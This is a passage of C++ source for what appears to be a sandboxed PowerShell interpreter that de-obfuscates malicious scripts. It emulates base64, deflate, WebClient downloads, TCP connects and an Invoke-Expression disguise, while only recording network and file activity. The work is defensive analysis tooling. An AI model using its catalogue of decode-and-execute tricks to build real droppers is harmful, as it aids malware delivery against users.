// Instance/static member resolution and object construction: the .NET
// surface that wild obfuscated recovery code touches ([Convert]::,
// [Text.Encoding]::, WebClient.DownloadString, StreamReader.ReadToEnd, ...).

#include <algorithm>
#include <cmath>
#include <regex>

#include "pslang/alias_table.h"
#include "psinterp/aes.h"
#include "psinterp/deflate.h"
#include "psinterp/interpreter.h"
#include "psinterp/objects.h"

namespace ps {

namespace {

std::string normalize_type(std::string t) {
  t = to_lower(t);
  if (t.rfind("system.", 0) == 0) t = t.substr(7);
  return t;
}

std::optional<TextEncoding> encoding_by_name(std::string_view name) {
  const std::string n = to_lower(name);
  if (n == "ascii") return TextEncoding::Ascii;
  if (n == "utf8" || n == "utf-8") return TextEncoding::Utf8;
  if (n == "unicode" || n == "utf-16" || n == "utf-16le") return TextEncoding::Unicode;
  if (n == "bigendianunicode" || n == "utf-16be") return TextEncoding::BigEndianUnicode;
  if (n == "default") return TextEncoding::Utf8;
  return std::nullopt;
}

Bytes need_bytes(const Value& v) {
  if (v.is_bytes()) return v.get_bytes();
  if (v.is_array()) {
    Bytes out;
    for (const Value& item : v.get_array()) {
      out.push_back(static_cast<std::uint8_t>(
          Interpreter::need_int(item, "byte") & 0xFF));
    }
    return out;
  }
  if (v.is_string()) {
    const std::string& s = v.get_string();
    return Bytes(s.begin(), s.end());
  }
  throw EvalError("expected a byte array, got " + v.type_name());
}

ByteVec key_from_value(const Value& v) {
  Bytes b = need_bytes(v);
  // PowerShell accepts 16/24/32-byte keys; pad/truncate like scripts that
  // pass (1..16) do not need it, but be forgiving for (1..20)-style keys.
  if (b.size() <= 16) b.resize(16, 0);
  else if (b.size() <= 24) b.resize(24, 0);
  else b.resize(32, 0);
  return b;
}

std::string extract_host(const std::string& url) {
  std::string rest = url;
  const auto scheme = rest.find("://");
  if (scheme != std::string::npos) rest = rest.substr(scheme + 3);
  const auto slash = rest.find_first_of("/?#");
  if (slash != std::string::npos) rest = rest.substr(0, slash);
  const auto at = rest.find('@');
  if (at != std::string::npos) rest = rest.substr(at + 1);
  const auto colon = rest.find(':');
  if (colon != std::string::npos) rest = rest.substr(0, colon);
  return rest;
}

}  // namespace

void Interpreter::record_network_for_url(const std::string& url) {
  if (opts_.recorder == nullptr) return;
  const std::string host = extract_host(url);
  opts_.recorder->on_network("dns", host);
  const bool https = to_lower(url).rfind("https", 0) == 0;
  opts_.recorder->on_network("tcp", host + ":" + (https ? "443" : "80"));
  opts_.recorder->on_network("http", url);
}

std::string Interpreter::simulated_download(const std::string& url) {
  record_network_for_url(url);
  if (opts_.recorder != nullptr) {
    std::string content = opts_.recorder->download_content(url);
    if (!content.empty()) return content;
  }
  return "Write-Output 'payload:" + url + "'";
}

// ------------------------------------------------------- instance members

Value Interpreter::instance_member(const Value& target, const std::string& member) {
  charge_step();
  const std::string m = to_lower(member);
  if (target.is_string()) {
    const std::string& s = target.get_string();
    if (m == "length") return Value(static_cast<std::int64_t>(utf8_length(s)));
    if (m == "value") return target;  // regex-match object duck-typing
  }
  if (target.is_array()) {
    if (m == "length" || m == "count") {
      return Value(static_cast<std::int64_t>(target.get_array().size()));
    }
    if (m == "rank") return Value(1);
  }
  if (target.is_bytes()) {
    if (m == "length" || m == "count") {
      return Value(static_cast<std::int64_t>(target.get_bytes().size()));
    }
  }
  if (target.is_hashtable()) {
    const auto& ht = target.get_hashtable();
    if (const Value* found = ht.find(member)) return *found;  // keys win
    if (m == "count") return Value(static_cast<std::int64_t>(ht.entries.size()));
    if (m == "keys") {
      Array out;
      for (const auto& [k, v] : ht.entries) out.push_back(k);
      return Value(std::move(out));
    }
    if (m == "values") {
      Array out;
      for (const auto& [k, v] : ht.entries) out.push_back(v);
      return Value(std::move(out));
    }
    return Value();
  }
  if (target.is_char()) {
    if (m == "length") return Value(1);
  }
  if (target.is_scriptblock()) {
    if (m == "ast" || m == "tostring") return Value(target.get_scriptblock().text);
  }
  if (target.is_object()) {
    const auto& obj = target.get_object();
    if (m == "length" || m == "count") return Value(1);
    if (auto* ms = dynamic_cast<MemoryStreamObject*>(obj.get())) {
      if (m == "position") return Value(static_cast<std::int64_t>(ms->position));
      if (m == "capacity") return Value(static_cast<std::int64_t>(ms->data.size()));
    }
    if (auto* enc = dynamic_cast<EncodingObject*>(obj.get())) {
      (void)enc;
      if (m == "bodyname" || m == "encodingname") return Value(obj->type_name());
    }
    if (dynamic_cast<WebClientObject*>(obj.get()) != nullptr) {
      if (m == "headers") return Value(Hashtable{});
      if (m == "encoding") return Value(std::string("System.Text.UTF8Encoding"));
    }
    if (dynamic_cast<ExecutionContextObject*>(obj.get()) != nullptr) {
      if (m == "invokecommand") {
        return Value(std::shared_ptr<PsObject>(std::make_shared<InvokeCommandObject>()));
      }
    }
  }
  if (m == "length" || m == "count") return Value(1);  // PS scalar .Length
  if (m == "name" || m == "fullname") return Value(target.type_name());
  if (opts_.strict_variables) {
    throw EvalError("unknown member ." + member + " on " + target.type_name());
  }
  return Value();
}

Value Interpreter::instance_invoke(const Value& target, const std::string& member,
                                   const std::vector<Value>& args) {
  charge_step();
  const std::string m = to_lower(member);

  // --- string methods ---
  if (target.is_string() || target.is_char()) {
    const std::string s = target.to_display_string();
    if (m == "replace") {
      if (args.size() < 2) throw EvalError("Replace needs 2 args");
      const std::string from = args[0].to_display_string();
      const std::string to = args[1].to_display_string();
      if (from.empty()) return Value(s);
      std::string out;
      std::size_t pos = 0;
      while (true) {
        const std::size_t hit = s.find(from, pos);
        if (hit == std::string::npos) {
          out += s.substr(pos);
          break;
        }
        out += s.substr(pos, hit - pos);
        out += to;
        pos = hit + from.size();
      }
      charge_bytes(out.size(), /*enforce_max_string=*/true);
      return Value(std::move(out));
    }
    if (m == "split") {
      // .NET String.Split: splits on any of the given characters.
      std::string separators;
      for (const Value& a : args) separators += a.to_display_string();
      if (separators.empty()) separators = " \t\n\r";
      Array out;
      std::string word;
      for (char c : s) {
        if (separators.find(c) != std::string::npos) {
          out.push_back(Value(word));
          word.clear();
        } else {
          word.push_back(c);
        }
      }
      out.push_back(Value(word));
      return Value(std::move(out));
    }
    if (m == "substring") {
      const std::int64_t start = args.empty() ? 0 : need_int(args[0], "Substring");
      const auto cps = utf8_codepoints(s);
      if (start < 0 || start > static_cast<std::int64_t>(cps.size())) {
        throw EvalError("Substring start out of range");
      }
      std::int64_t len = static_cast<std::int64_t>(cps.size()) - start;
      if (args.size() >= 2) len = need_int(args[1], "Substring");
      if (start + len > static_cast<std::int64_t>(cps.size())) {
        throw EvalError("Substring length out of range");
      }
      std::string out;
      for (std::int64_t i = start; i < start + len; ++i) {
        out += utf8_encode(cps[static_cast<std::size_t>(i)]);
      }
      return Value(std::move(out));
    }
    if (m == "tolower" || m == "tolowerinvariant") return Value(to_lower(s));
    if (m == "toupper" || m == "toupperinvariant") {
      std::string out = s;
      std::transform(out.begin(), out.end(), out.begin(), [](unsigned char c) {
        return static_cast<char>(std::toupper(c));
      });
      return Value(std::move(out));
    }
    if (m == "tochararray") {
      Array out;
      for (std::uint32_t cp : utf8_codepoints(s)) out.push_back(Value(PsChar{cp}));
      return Value(std::move(out));
    }
    if (m == "trim" || m == "trimstart" || m == "trimend") {
      std::string chars = " \t\n\r";
      if (!args.empty()) {
        chars.clear();
        for (const Value& a : args) chars += a.to_display_string();
      }
      std::size_t b = 0, e = s.size();
      if (m != "trimend") {
        while (b < e && chars.find(s[b]) != std::string::npos) ++b;
      }
      if (m != "trimstart") {
        while (e > b && chars.find(s[e - 1]) != std::string::npos) --e;
      }
      return Value(s.substr(b, e - b));
    }
    if (m == "startswith") {
      if (args.empty()) throw EvalError("StartsWith needs an arg");
      const std::string p = args[0].to_display_string();
      return Value(s.rfind(p, 0) == 0);
    }
    if (m == "endswith") {
      if (args.empty()) throw EvalError("EndsWith needs an arg");
      const std::string p = args[0].to_display_string();
      return Value(s.size() >= p.size() && s.compare(s.size() - p.size(), p.size(), p) == 0);
    }
    if (m == "contains") {
      return Value(!args.empty() &&
                   s.find(args[0].to_display_string()) != std::string::npos);
    }
    if (m == "indexof") {
      if (args.empty()) return Value(-1);
      const auto pos = s.find(args[0].to_display_string());
      return Value(pos == std::string::npos ? -1 : static_cast<std::int64_t>(pos));
    }
    if (m == "lastindexof") {
      if (args.empty()) return Value(-1);
      const auto pos = s.rfind(args[0].to_display_string());
      return Value(pos == std::string::npos ? -1 : static_cast<std::int64_t>(pos));
    }
    if (m == "insert") {
      if (args.size() < 2) throw EvalError("Insert needs 2 args");
      std::string out = s;
      const std::int64_t at = need_int(args[0], "Insert");
      if (at < 0 || at > static_cast<std::int64_t>(out.size())) {
        throw EvalError("Insert index out of range");
      }
      out.insert(static_cast<std::size_t>(at), args[1].to_display_string());
      return Value(std::move(out));
    }
    if (m == "remove") {
      if (args.empty()) throw EvalError("Remove needs args");
      std::string out = s;
      const std::int64_t at = need_int(args[0], "Remove");
      const std::int64_t len = args.size() >= 2
                                   ? need_int(args[1], "Remove")
                                   : static_cast<std::int64_t>(out.size()) - at;
      if (at < 0 || len < 0 || at + len > static_cast<std::int64_t>(out.size())) {
        throw EvalError("Remove out of range");
      }
      out.erase(static_cast<std::size_t>(at), static_cast<std::size_t>(len));
      return Value(std::move(out));
    }
    if (m == "padleft" || m == "padright") {
      const std::int64_t width = args.empty() ? 0 : need_int(args[0], "Pad");
      const char fill = args.size() >= 2 && !args[1].to_display_string().empty()
                            ? args[1].to_display_string()[0]
                            : ' ';
      std::string out = s;
      while (static_cast<std::int64_t>(out.size()) < width) {
        if (m == "padleft") out.insert(out.begin(), fill);
        else out.push_back(fill);
      }
      return Value(std::move(out));
    }
    if (m == "tostring") return Value(s);
    if (m == "normalize") return Value(s);
    if (m == "equals") {
      return Value(!args.empty() && s == args[0].to_display_string());
    }
    if (m == "compareto") {
      const std::string o = args.empty() ? "" : args[0].to_display_string();
      return Value(static_cast<std::int64_t>(s.compare(o) < 0 ? -1 : (s == o ? 0 : 1)));
    }
    if (m == "gettype") return Value(std::string("System.String"));
  }

  // --- scriptblock ---
  if (target.is_scriptblock()) {
    if (m == "invoke" || m == "invokereturnasis") {
      // Arguments become $args inside the block.
      std::vector<Value> out;
      scopes_.emplace_back();
      scopes_.back().vars["args"] = Value(Array(args.begin(), args.end()));
      try {
        invoke_scriptblock(target.get_scriptblock(), {}, false, out);
      } catch (...) {
        scopes_.pop_back();
        throw;
      }
      scopes_.pop_back();
      return Value::from_stream(std::move(out));
    }
    if (m == "tostring") return Value(target.get_scriptblock().text);
    if (m == "getnewclosure") return target;
  }

  // --- arrays ---
  if (target.is_array()) {
    const auto& arr = target.get_array();
    if (m == "contains") {
      for (const Value& v : arr) {
        if (!args.empty() && iequals(v.to_display_string(),
                                     args[0].to_display_string())) {
          return Value(true);
        }
      }
      return Value(false);
    }
    if (m == "indexof") {
      for (std::size_t i = 0; i < arr.size(); ++i) {
        if (!args.empty() && iequals(arr[i].to_display_string(),
                                     args[0].to_display_string())) {
          return Value(static_cast<std::int64_t>(i));
        }
      }
      return Value(-1);
    }
    if (m == "getvalue") {
      const std::int64_t i = args.empty() ? 0 : need_int(args[0], "GetValue");
      if (i < 0 || i >= static_cast<std::int64_t>(arr.size())) return Value();
      return arr[static_cast<std::size_t>(i)];
    }
    if (m == "gettype") return Value(std::string("System.Object[]"));
    if (m == "tostring") return Value(std::string("System.Object[]"));
  }

  // --- numbers ---
  if (target.is_int() || target.is_double()) {
    if (m == "tostring") {
      if (!args.empty()) {
        const std::string f = args[0].to_display_string();
        if (!f.empty() && (f[0] == 'X' || f[0] == 'x')) {
          std::int64_t n = 0;
          target.try_to_int(n);
          std::string hex = convert_to_string_base(n, 16);
          if (f[0] == 'X') {
            std::transform(hex.begin(), hex.end(), hex.begin(), [](unsigned char c) {
              return static_cast<char>(std::toupper(c));
            });
          }
          const int width = f.size() > 1 ? std::atoi(f.c_str() + 1) : 0;
          while (static_cast<int>(hex.size()) < width) hex.insert(0, "0");
          return Value(std::move(hex));
        }
      }
      return Value(target.to_display_string());
    }
    if (m == "equals") {
      double a = 0, b = 0;
      target.try_to_double(a);
      if (!args.empty()) args[0].try_to_double(b);
      return Value(!args.empty() && a == b);
    }
    if (m == "gettype") {
      return Value(std::string(target.is_int() ? "System.Int64" : "System.Double"));
    }
  }

  // --- objects ---
  if (target.is_object()) {
    const auto& obj = target.get_object();
    if (auto* wc = dynamic_cast<WebClientObject*>(obj.get())) {
      (void)wc;
      const std::string lower_member = m;
      check_blocked("webclient." + lower_member);
      if (m == "downloadstring") {
        const std::string url = args.empty() ? "" : args[0].to_display_string();
        return Value(simulated_download(url));
      }
      if (m == "downloaddata" || m == "openread") {
        const std::string url = args.empty() ? "" : args[0].to_display_string();
        const std::string content = simulated_download(url);
        Bytes bytes(content.begin(), content.end());
        if (m == "openread") {
          return Value(std::shared_ptr<PsObject>(
              std::make_shared<MemoryStreamObject>(std::move(bytes))));
        }
        return Value(std::move(bytes));
      }
      if (m == "downloadfile") {
        const std::string url = args.empty() ? "" : args[0].to_display_string();
        const std::string path = args.size() > 1 ? args[1].to_display_string() : "";
        record_network_for_url(url);
        if (opts_.recorder != nullptr) opts_.recorder->on_file("write", path);
        return Value();
      }
      if (m == "uploadstring" || m == "uploaddata" || m == "uploadfile") {
        const std::string url = args.empty() ? "" : args[0].to_display_string();
        record_network_for_url(url);
        return Value(std::string());
      }
      if (m == "dispose" || m == "close") return Value();
    }
    if (auto* ms = dynamic_cast<MemoryStreamObject*>(obj.get())) {
      if (m == "toarray") return Value(Bytes(ms->data));
      if (m == "seek") {
        ms->position = static_cast<std::size_t>(
            args.empty() ? 0 : need_int(args[0], "Seek"));
        return Value(static_cast<std::int64_t>(ms->position));
      }
      if (m == "close" || m == "dispose" || m == "flush") return Value();
      if (m == "write") {
        if (!args.empty()) {
          const Bytes b = need_bytes(args[0]);
          ms->data.insert(ms->data.end(), b.begin(), b.end());
        }
        return Value();
      }
    }
    if (auto* ds = dynamic_cast<DeflateStreamObject*>(obj.get())) {
      if (m == "copyto") {
        if (args.empty() || !args[0].is_object()) throw EvalError("CopyTo needs a stream");
        auto* dest = dynamic_cast<MemoryStreamObject*>(args[0].get_object().get());
        if (dest == nullptr) throw EvalError("CopyTo target must be a MemoryStream");
        const auto plain = inflate(ds->inner->data);
        if (!plain) throw EvalError("invalid deflate stream");
        dest->data.insert(dest->data.end(), plain->begin(), plain->end());
        return Value();
      }
      if (m == "close" || m == "dispose") return Value();
    }
    if (auto* sr = dynamic_cast<StreamReaderObject*>(obj.get())) {
      if (m == "readtoend" || m == "readline") {
        Bytes raw;
        if (auto* ds = dynamic_cast<DeflateStreamObject*>(sr->stream.get())) {
          const auto plain = inflate(ds->inner->data);
          if (!plain) throw EvalError("invalid deflate stream");
          raw = *plain;
        } else if (auto* ms = dynamic_cast<MemoryStreamObject*>(sr->stream.get())) {
          raw = ms->data;
        } else {
          throw EvalError("unsupported stream for StreamReader");
        }
        std::string text = encoding_get_string(sr->encoding, raw);
        if (m == "readline") {
          const auto nl = text.find('\n');
          if (nl != std::string::npos) text = text.substr(0, nl);
        }
        return Value(std::move(text));
      }
      if (m == "close" || m == "dispose") return Value();
    }
    if (auto* rnd = dynamic_cast<RandomObject*>(obj.get())) {
      if (m == "next") {
        std::int64_t lo = 0, hi = 2147483647;
        if (args.size() == 1) hi = need_int(args[0], "Next");
        if (args.size() >= 2) {
          lo = need_int(args[0], "Next");
          hi = need_int(args[1], "Next");
        }
        return Value(rnd->next(lo, hi));
      }
    }
    if (auto* tc = dynamic_cast<TcpClientObject*>(obj.get())) {
      if (m == "getstream") {
        return Value(std::shared_ptr<PsObject>(
            std::make_shared<MemoryStreamObject>(Bytes{})));
      }
      if (m == "close" || m == "dispose") {
        (void)tc;
        return Value();
      }
      if (m == "connect") {
        const std::string host = args.empty() ? tc->host : args[0].to_display_string();
        const std::string port = args.size() > 1 ? args[1].to_display_string()
                                                 : std::to_string(tc->port);
        if (opts_.recorder != nullptr) {
          opts_.recorder->on_network("tcp", host + ":" + port);
        }
        return Value();
      }
    }
    if (auto* enc = dynamic_cast<EncodingObject*>(obj.get())) {
      if (m == "getstring") {
        if (args.empty()) throw EvalError("GetString needs bytes");
        return Value(encoding_get_string(enc->enc, need_bytes(args[0])));
      }
      if (m == "getbytes") {
        if (args.empty()) throw EvalError("GetBytes needs a string");
        return Value(encoding_get_bytes(enc->enc, args[0].to_display_string()));
      }
    }
    if (dynamic_cast<InvokeCommandObject*>(obj.get()) != nullptr) {
      if (m == "invokescript" || m == "invokeexpression") {
        // The engine-intrinsics Invoke-Expression disguise.
        if (args.empty()) return Value();
        return evaluate_script(args[0].to_display_string());
      }
      if (m == "newscriptblock") {
        return Value(ScriptBlock{args.empty() ? std::string()
                                              : args[0].to_display_string()});
      }
      if (m == "expandstring") {
        if (args.empty()) return Value(std::string());
        return expand_string(args[0].to_display_string(), {});
      }
    }
    if (m == "tostring") return Value(obj->to_display());
    if (m == "gettype") return Value(obj->type_name());
    if (m == "dispose" || m == "close") return Value();
  }

  if (m == "tostring") return Value(target.to_display_string());
  if (m == "gettype") return Value(target.type_name());
  throw EvalError("unknown method ." + member + " on " + target.type_name());
}

// --------------------------------------------------------- static members

Value Interpreter::static_member(const std::string& type_name,
                                 const std::string& member) {
  charge_step();
  const std::string t = normalize_type(type_name);
  const std::string m = to_lower(member);

  if (t == "text.encoding" || t == "encoding") {
    if (auto enc = encoding_by_name(m)) {
      return Value(std::shared_ptr<PsObject>(std::make_shared<EncodingObject>(*enc)));
    }
  }
  if (t == "io.compression.compressionmode" || t == "compressionmode") {
    if (m == "decompress") return Value(std::string("Decompress"));
    if (m == "compress") return Value(std::string("Compress"));
  }
  if (t == "environment") {
    if (m == "newline") return Value(std::string("\r\n"));
    if (m == "machinename") return Value(std::string("DESKTOP-SIM"));
    if (m == "username") return Value(std::string("user"));
    if (m == "osversion") return Value(std::string("Microsoft Windows NT 10.0.19041.0"));
    if (m == "currentdirectory") return Value(std::string("C:\\Users\\user"));
  }
  if (t == "math") {
    if (m == "pi") return Value(3.14159265358979323846);
    if (m == "e") return Value(2.71828182845904523536);
  }
  if (t == "int" || t == "int32") {
    if (m == "maxvalue") return Value(2147483647);
    if (m == "minvalue") return Value(static_cast<std::int64_t>(-2147483648LL));
  }
  if (t == "char") {
    if (m == "maxvalue") return Value(PsChar{0xFFFF});
  }
  if (t == "string") {
    if (m == "empty") return Value(std::string());
  }
  if (t == "io.compression.compressionlevel") {
    return Value(std::string(member));
  }
  if (t == "net.servicepointmanager" || t == "servicepointmanager") {
    if (m == "securityprotocol") return Value(std::string("Tls12"));
  }
  if (t == "net.securityprotocoltype" || t == "securityprotocoltype") {
    return Value(std::string(member));  // Tls12, Tls11, ... enum names
  }
  if (opts_.strict_variables) {
    throw EvalError("unknown static member [" + type_name + "]::" + member);
  }
  return Value();
}

Value Interpreter::static_invoke(const std::string& type_name,
                                 const std::string& member,
                                 const std::vector<Value>& args) {
  charge_step();
  const std::string t = normalize_type(type_name);
  const std::string m = to_lower(member);

  if (t == "convert") {
    if (m == "frombase64string") {
      if (args.empty()) throw EvalError("FromBase64String needs an arg");
      const auto bytes = base64_decode(args[0].to_display_string());
      if (!bytes) throw EvalError("invalid base64");
      return Value(*bytes);
    }
    if (m == "tobase64string") {
      if (args.empty()) throw EvalError("ToBase64String needs an arg");
      return Value(base64_encode(need_bytes(args[0])));
    }
    if (m == "toint32" || m == "toint16" || m == "toint64" || m == "tobyte") {
      if (args.empty()) throw EvalError("ToInt needs args");
      if (args.size() >= 2) {
        const int base = static_cast<int>(need_int(args[1], "base"));
        const auto v = convert_to_int(args[0].to_display_string(), base);
        if (!v) throw EvalError("bad digits for base " + std::to_string(base));
        return Value(*v);
      }
      return Value(need_int(args[0], "ToInt"));
    }
    if (m == "tochar") {
      if (args.empty()) throw EvalError("ToChar needs an arg");
      return Value(PsChar{static_cast<std::uint32_t>(need_int(args[0], "ToChar"))});
    }
    if (m == "tostring") {
      if (args.size() >= 2) {
        const int base = static_cast<int>(need_int(args[1], "base"));
        return Value(convert_to_string_base(need_int(args[0], "ToString"), base));
      }
      if (!args.empty()) return Value(args[0].to_display_string());
    }
  }

  if (t == "text.encoding" || t == "encoding") {
    if (m == "getencoding" && !args.empty()) {
      if (auto enc = encoding_by_name(args[0].to_display_string())) {
        return Value(std::shared_ptr<PsObject>(std::make_shared<EncodingObject>(*enc)));
      }
      throw EvalError("unknown encoding " + args[0].to_display_string());
    }
  }

  if (t == "string") {
    if (m == "join") {
      if (args.size() < 2) throw EvalError("Join needs 2 args");
      const std::string sep = args[0].to_display_string();
      std::string out;
      const std::vector<Value> items =
          args[1].is_array() ? args[1].get_array() : std::vector<Value>(args.begin() + 1, args.end());
      for (std::size_t i = 0; i < items.size(); ++i) {
        if (i) out += sep;
        out += items[i].to_display_string();
      }
      return Value(std::move(out));
    }
    if (m == "concat") {
      std::string out;
      for (const Value& a : args) {
        for (const Value& item : a.is_array() ? a.get_array() : Array{a}) {
          out += item.to_display_string();
        }
      }
      return Value(std::move(out));
    }
    if (m == "format") {
      if (args.empty()) return Value(std::string());
      std::vector<Value> rest;
      if (args.size() == 2 && args[1].is_array()) {
        rest = args[1].get_array();
      } else {
        rest.assign(args.begin() + 1, args.end());
      }
      return Value(format_operator(args[0].to_display_string(), rest));
    }
    if (m == "isnullorempty") {
      return Value(args.empty() || args[0].to_display_string().empty());
    }
    if (m == "new") {
      // [string]::new(char[], ...) — join the chars.
      std::string out;
      if (!args.empty()) {
        for (const Value& item :
             args[0].is_array() ? args[0].get_array() : Array{args[0]}) {
          out += item.to_display_string();
        }
      }
      return Value(std::move(out));
    }
  }

  if (t == "array") {
    if (m == "reverse") {
      if (args.empty() || !args[0].is_array()) throw EvalError("Array.Reverse needs an array");
      Value copy = args[0];
      std::reverse(copy.get_array().begin(), copy.get_array().end());
      // .NET reverses in place; shared_ptr semantics make this visible to
      // the caller's variable as well.
      return Value();
    }
    if (m == "indexof") {
      if (args.size() < 2 || !args[0].is_array()) return Value(-1);
      const auto& arr = args[0].get_array();
      for (std::size_t i = 0; i < arr.size(); ++i) {
        if (iequals(arr[i].to_display_string(), args[1].to_display_string())) {
          return Value(static_cast<std::int64_t>(i));
        }
      }
      return Value(-1);
    }
  }

  if (t == "char") {
    if (m == "convertfromutf32" && !args.empty()) {
      return Value(utf8_encode(static_cast<std::uint32_t>(need_int(args[0], m))));
    }
    if (m == "toupper" && !args.empty()) {
      std::string s = args[0].to_display_string();
      std::transform(s.begin(), s.end(), s.begin(), [](unsigned char c) {
        return static_cast<char>(std::toupper(c));
      });
      if (utf8_length(s) == 1) return Value(PsChar{utf8_codepoints(s)[0]});
      return Value(std::move(s));
    }
    if (m == "tolower" && !args.empty()) {
      const std::string s = to_lower(args[0].to_display_string());
      if (utf8_length(s) == 1) return Value(PsChar{utf8_codepoints(s)[0]});
      return Value(s);
    }
  }

  if (t == "math") {
    auto arg0 = [&]() {
      double d = 0;
      if (args.empty() || !args[0].try_to_double(d)) throw EvalError("Math needs a number");
      return d;
    };
    if (m == "abs") return Value(std::abs(arg0()));
    if (m == "floor") return Value(std::floor(arg0()));
    if (m == "ceiling") return Value(std::ceil(arg0()));
    if (m == "round") return Value(std::round(arg0()));
    if (m == "sqrt") return Value(std::sqrt(arg0()));
    if (m == "pow") {
      double b = 0;
      if (args.size() < 2 || !args[1].try_to_double(b)) throw EvalError("Pow needs 2 args");
      return Value(std::pow(arg0(), b));
    }
    if (m == "min") {
      double b = 0;
      if (args.size() < 2 || !args[1].try_to_double(b)) throw EvalError("Min needs 2 args");
      return Value(std::min(arg0(), b));
    }
    if (m == "max") {
      double b = 0;
      if (args.size() < 2 || !args[1].try_to_double(b)) throw EvalError("Max needs 2 args");
      return Value(std::max(arg0(), b));
    }
  }

  if (t == "environment") {
    if (m == "getenvironmentvariable" && !args.empty()) {
      const std::string name = to_lower(args[0].to_display_string());
      auto it = env_.find(name);
      return Value(it != env_.end() ? it->second : std::string());
    }
    if (m == "getfolderpath" && !args.empty()) {
      return Value(std::string("C:\\Users\\user\\") + args[0].to_display_string());
    }
  }

  if (t == "runtime.interopservices.marshal" || t == "marshal") {
    if (m == "securestringtobstr" || m == "securestringtoglobalallocunicode") {
      if (args.empty() || !args[0].is_object()) throw EvalError("needs a SecureString");
      auto* ss = dynamic_cast<SecureStringObject*>(args[0].get_object().get());
      if (ss == nullptr) throw EvalError("needs a SecureString");
      return Value(std::shared_ptr<PsObject>(std::make_shared<BstrObject>(ss->plain)));
    }
    if (m == "ptrtostringauto" || m == "ptrtostringuni" || m == "ptrtostringbstr") {
      if (args.empty() || !args[0].is_object()) throw EvalError("needs a BSTR");
      auto* bstr = dynamic_cast<BstrObject*>(args[0].get_object().get());
      if (bstr == nullptr) throw EvalError("needs a BSTR");
      return Value(bstr->plain);
    }
    if (m == "zerofreebstr" || m == "zerofreeglobalallocunicode" || m == "freebstr") {
      return Value();
    }
    if (m == "copy") return Value();
  }

  if (t == "regex" || t == "text.regularexpressions.regex") {
    if (m == "matches") {
      if (args.size() < 2) throw EvalError("Regex.Matches needs 2 args");
      const std::string input = args[0].to_display_string();
      const std::string pattern = args[1].to_display_string();
      bool right_to_left = false;
      if (args.size() >= 3) {
        right_to_left =
            to_lower(args[2].to_display_string()).find("righttoleft") != std::string::npos;
      }
      Array out;
      try {
        const std::regex re(pattern, std::regex::ECMAScript);
        auto begin = std::sregex_iterator(input.begin(), input.end(), re);
        for (auto it = begin; it != std::sregex_iterator(); ++it) {
          out.push_back(Value(it->str()));
        }
      } catch (const std::regex_error&) {
        throw EvalError("bad regex " + pattern);
      }
      if (right_to_left) std::reverse(out.begin(), out.end());
      return Value(std::move(out));
    }
    if (m == "replace") {
      if (args.size() < 3) throw EvalError("Regex.Replace needs 3 args");
      try {
        const std::regex re(args[1].to_display_string(), std::regex::ECMAScript);
        return Value(std::regex_replace(args[0].to_display_string(), re,
                                        args[2].to_display_string()));
      } catch (const std::regex_error&) {
        throw EvalError("bad regex");
      }
    }
    if (m == "split") {
      if (args.size() < 2) throw EvalError("Regex.Split needs 2 args");
      const std::string input = args[0].to_display_string();
      try {
        const std::regex re(args[1].to_display_string(), std::regex::ECMAScript);
        Array out;
        std::sregex_token_iterator it(input.begin(), input.end(), re, -1), end;
        for (; it != end; ++it) out.push_back(Value(std::string(*it)));
        return Value(std::move(out));
      } catch (const std::regex_error&) {
        throw EvalError("bad regex");
      }
    }
    if (m == "escape" && !args.empty()) {
      std::string out;
      for (char c : args[0].to_display_string()) {
        if (std::string("\\^$.|?*+()[]{}").find(c) != std::string::npos) out.push_back('\\');
        out.push_back(c);
      }
      return Value(std::move(out));
    }
  }

  if (t == "guid") {
    if (m == "newguid") {
      return Value(std::string("00000000-dead-beef-0000-000000000000"));
    }
  }

  if (t == "io.file" || t == "file") {
    check_blocked("io.file." + m);
    if (m == "readalltext" || m == "readallbytes") {
      if (opts_.recorder != nullptr && !args.empty()) {
        opts_.recorder->on_file("read", args[0].to_display_string());
      }
      std::string content;
      if (!args.empty()) {
        auto it = virtual_fs_.find(to_lower(args[0].to_display_string()));
        if (it != virtual_fs_.end()) content = it->second;
      }
      if (m == "readallbytes") {
        return Value(Bytes(content.begin(), content.end()));
      }
      return Value(std::move(content));
    }
    if (m == "writealltext" || m == "writeallbytes") {
      if (!args.empty()) {
        std::string content;
        if (args.size() > 1) {
          if (args[1].is_bytes()) {
            const Bytes& b = args[1].get_bytes();
            content.assign(b.begin(), b.end());
          } else {
            content = args[1].to_display_string();
          }
        }
        virtual_fs_[to_lower(args[0].to_display_string())] = std::move(content);
        if (opts_.recorder != nullptr) {
          opts_.recorder->on_file("write", args[0].to_display_string());
        }
      }
      return Value();
    }
    if (m == "exists") {
      return Value(!args.empty() &&
                   virtual_fs_.count(to_lower(args[0].to_display_string())) > 0);
    }
  }

  if ((t == "int" || t == "int32" || t == "int64") && m == "parse" && !args.empty()) {
    return Value(need_int(args[0], "Parse"));
  }

  if (m == "new") {
    return construct_object(t, args);
  }

  throw EvalError("unknown static method [" + type_name + "]::" + member);
}

// ----------------------------------------------------------- construction

Value Interpreter::construct_object(const std::string& type_name,
                                    const std::vector<Value>& args) {
  charge_step();
  const std::string t = normalize_type(type_name);

  if (t == "net.webclient") {
    return Value(std::shared_ptr<PsObject>(std::make_shared<WebClientObject>()));
  }
  if (t == "io.memorystream") {
    Bytes data;
    if (!args.empty()) data = need_bytes(args[0]);
    return Value(std::shared_ptr<PsObject>(
        std::make_shared<MemoryStreamObject>(std::move(data))));
  }
  if (t == "io.compression.deflatestream" || t == "io.compression.gzipstream") {
    if (args.empty() || !args[0].is_object()) {
      throw EvalError("DeflateStream needs a stream");
    }
    auto inner = std::dynamic_pointer_cast<MemoryStreamObject>(args[0].get_object());
    if (inner == nullptr) throw EvalError("DeflateStream needs a MemoryStream");
    bool decompress = true;
    if (args.size() >= 2) {
      decompress = iequals(args[1].to_display_string(), "decompress");
    }
    if (t == "io.compression.gzipstream" && inner->data.size() > 10 &&
        inner->data[0] == 0x1F && inner->data[1] == 0x8B) {
      // Strip the gzip header so the deflate body inflates directly.
      Bytes body(inner->data.begin() + 10, inner->data.end());
      if (body.size() > 8) body.resize(body.size() - 8);  // drop CRC32+ISIZE
      inner = std::make_shared<MemoryStreamObject>(std::move(body));
    }
    return Value(std::shared_ptr<PsObject>(
        std::make_shared<DeflateStreamObject>(std::move(inner), decompress)));
  }
  if (t == "io.streamreader") {
    if (args.empty() || !args[0].is_object()) throw EvalError("StreamReader needs a stream");
    TextEncoding enc = TextEncoding::Utf8;
    if (args.size() >= 2) {
      if (args[1].is_object()) {
        if (auto* eo = dynamic_cast<EncodingObject*>(args[1].get_object().get())) {
          enc = eo->enc;
        }
